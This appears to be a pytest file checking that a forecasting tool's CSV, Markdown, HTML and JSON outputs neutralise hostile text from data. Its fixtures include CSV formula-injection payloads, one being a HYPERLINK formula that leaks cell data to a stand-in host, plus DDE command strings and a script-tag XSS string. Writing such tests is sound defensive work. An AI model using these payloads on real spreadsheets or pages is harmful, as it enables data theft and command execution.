"""Every output format escapes text from data (issue #15 item 6, issue #9 item 3): a test per format.

CSV (probabilities.csv, history.csv, history_replay.csv): formula prefixes neutralised per OWASP, numbers intact.
Markdown: text that begins like block structure (``# ``, ``> ``, ``- ``, ``1. ``...) stays text (checked with a
CommonMark parser). HTML: the same text escaped and inert. JSON: hostile text round-trips, nothing invisible raw.
"""

from __future__ import annotations

import copy
import csv
import io
import json
from pathlib import Path

import pandas as pd
import pytest
from markdown_it import MarkdownIt

from forecast.analysis.replay import load_replay, write_replay
from forecast.outputs.contract import WrittenReport
from forecast.outputs.history import append_history, read_history
from forecast.outputs.render import md_escape, render_html, render_markdown
from forecast.outputs.report import probabilities_csv
from forecast.safe_text import csv_cell, json_text

FIXTURE = Path(__file__).parent / "fixtures" / "forecast_example.json"
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1", "=cmd|' /C notepad'!'A1'"]
NUMBERS = ["-0.5", "+3", "-12", "1e-3"]
STRUCTURE = ["# Heading from data", "## sub", "> a quote", "- a list item", "+ plus item", "* star item",
             "1. ordered", "7) ordered", "--- ", "***", "___", "~~~ fence", "```fence", "    indented code",
             "=== setext", "<div>raw</div>", "[link](http://x.example)", "**bold**", "_em_"]


def _fixture() -> dict:
    return json.loads(FIXTURE.read_text(encoding="utf-8"))


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize("formula", FORMULAS)
def test_csv_cell_neutralises_every_formula_prefix(formula):
    assert csv_cell(formula) == "'" + formula.replace("\r", "\n")
    assert csv_cell("plain label") == "plain label"


@pytest.mark.parametrize("number", NUMBERS)
def test_csv_cell_keeps_numbers(number):
    assert csv_cell(number) == number and csv_cell(-0.5) == -0.5


def test_probabilities_csv_neutralises_labels_and_keeps_numbers():
    data = _fixture()
    for r, f in zip(data["responses"], FORMULAS, strict=False):
        r["label"] = f
    text = probabilities_csv(data)
    rows = _cells(text)
    header = rows[0]
    labels = [row[header.index("label")] for row in rows[1:1 + len(FORMULAS)]]
    assert labels == ["'" + f.replace("\r", "\n") for f in FORMULAS]
    means = [float(row[header.index("mean")]) for row in rows[1:]]
    assert means == [r["mean"] for r in data["responses"]] + [c["mean"] for c in data["composites"]]
    assert not any(c.startswith(("=", "+", "@", "\t", "\r")) for row in rows for c in row)


def test_history_csv_neutralises_text_cells(tmp_path):
    data = _fixture()
    data["responses"][0]["response"] = FORMULAS[0]
    data["scenario"] = "@evil"
    rep = tmp_path / "reports" / "one"
    path = append_history(tmp_path / "reports", tmp_path / "cache", [WrittenReport(rep, json.loads(json.dumps(data)))])
    rows = _cells(path.read_text(encoding="utf-8"))
    assert rows[1][rows[0].index("id")] == "'" + FORMULAS[0]
    assert {row[rows[0].index("scenario")] for row in rows[1:]} == {"'@evil"}
    df = read_history(path)
    assert df["mean"].dtype.kind == "f" and df["mean"].iloc[0] == data["responses"][0]["mean"]


def test_history_replay_csv_neutralises_text_cells(tmp_path):
    df = pd.DataFrame({"as_of": ["2026-01-16"], "scenario": ["one_time_raid"], "response": ["=1+2"],
                       "mean": [0.25], "evidence_ids": ["-E-1;@E-2"]})
    df.attrs["arrivals"] = {}
    path = write_replay(tmp_path, df)
    rows = _cells(path.read_text(encoding="utf-8"))
    assert rows[1] == ["2026-01-16", "one_time_raid", "'=1+2", "0.25", "'-E-1;@E-2"]
    assert load_replay(tmp_path)["mean"].iloc[0] == 0.25  # the number read back as a number


def _block_tokens(md: str) -> list[tuple[str, str]]:
    """(token type, its text) of every block a CommonMark parser finds."""
    toks = MarkdownIt("commonmark").parse(md)
    return [(t.type, toks[i + 1].content if i + 1 < len(toks) and toks[i + 1].type == "inline" else t.content)
            for i, t in enumerate(toks) if t.type != "inline"]


@pytest.mark.parametrize("text", STRUCTURE)
def test_markdown_text_from_data_never_becomes_structure(text):
    data = _fixture()
    clean = render_markdown(copy.deepcopy(data), {"history": "history.png"})
    for key in ("title", "description"):
        data[key] = text
    data["claims"][0]["quote"] = text
    data["polls"][0]["pollster"] = text
    md = render_markdown(data, {"history": "history.png"})
    assert md_escape(text) in md
    kinds = [k for k, _ in _block_tokens(md)]
    assert kinds == [k for k, _ in _block_tokens(clean)], f"{text!r} changed the document's structure"
    inline = MarkdownIt("commonmark").parseInline(md_escape(text))[0].children
    assert [t.type for t in inline] == ["text"] * len(inline), f"{text!r} became markup: {inline}"


@pytest.mark.parametrize("text", STRUCTURE + FORMULAS)
def test_html_escapes_the_same_text(text):
    import html

    data = _fixture()
    data["title"] = text
    data["description"] = text
    page = render_html(data, {})
    assert html.escape(text.strip(), quote=True) in page or html.escape(" ".join(text.split())) in page
    assert "<div>raw" not in page  # tags from data never reach the page as tags


def test_json_round_trips_hostile_text_and_hides_nothing():
    data = _fixture()
    hostile = "a\u202eevil\u2066b\u200bc\u2028d\u2029e\x1b[31m\x00 é “ok” </script><!--"
    data["title"] = hostile
    data["responses"][0]["label"] = FORMULAS[0]
    text = json_text(data)
    assert json.loads(text) == data
    for c in "\u202e\u2066\u200b\u2028\u2029\x1b\x00":
        assert c not in text, repr(c)
    assert "é “ok”" in text  # ordinary Unicode stays readable


def test_the_brief_escapes_text_from_the_question_file(data_copy, session_cache):
    """The question file's free text (the question, the landing title, the article's citation, why an outcome is
    watched) reaches the brief, the landing page and the Markdown escaped and inert."""
    import html

    import yaml

    import forecast
    from forecast.outputs.brief import brief_data
    from forecast.outputs.landing import landing_page

    hostile = '<script>alert(1)</script> # x | y [z](http://evil.example) **b** "q"'
    path = data_copy / "question.yaml"
    raw = yaml.safe_load(path.read_text(encoding="utf-8"))
    raw["title"] = hostile
    raw["question"] = "{action} " + hostile + " {horizon}"
    raw["article"]["title"] = hostile
    raw["bottom_line"]["most_dangerous"][0]["why"] = hostile
    path.write_text(yaml.safe_dump(raw, allow_unicode=True), encoding="utf-8")
    cfg = forecast.compose([f"paths.data={data_copy}", f"paths.cache={session_cache}"])
    data = _fixture()
    data["brief"] = brief_data(cfg, forecast.load_inputs(cfg), data)
    page = render_html(data, {})
    assert "<script>alert" not in page and html.escape("<script>alert(1)</script>") in page
    assert 'href="http://evil.example' not in page
    md = render_markdown(data, {})
    assert "<script>" not in md, md[max(0, md.find("<script>") - 200):md.find("<script>") + 50]
    assert md_escape(hostile) in md
    links = [t for tok in MarkdownIt("commonmark").parse(md) for t in (tok.children or []) if t.type == "link_open"]
    assert not any("evil.example" in str(t.attrs.get("href")) for t in links)
    reports = data_copy.parent / "reports"
    (reports / "one_time_raid").mkdir(parents=True)
    (reports / "one_time_raid" / "forecast.json").write_text(json.dumps(data), encoding="utf-8")
    landing = landing_page(reports)
    assert "<script>alert" not in landing and html.escape("<script>alert(1)</script>") in landing
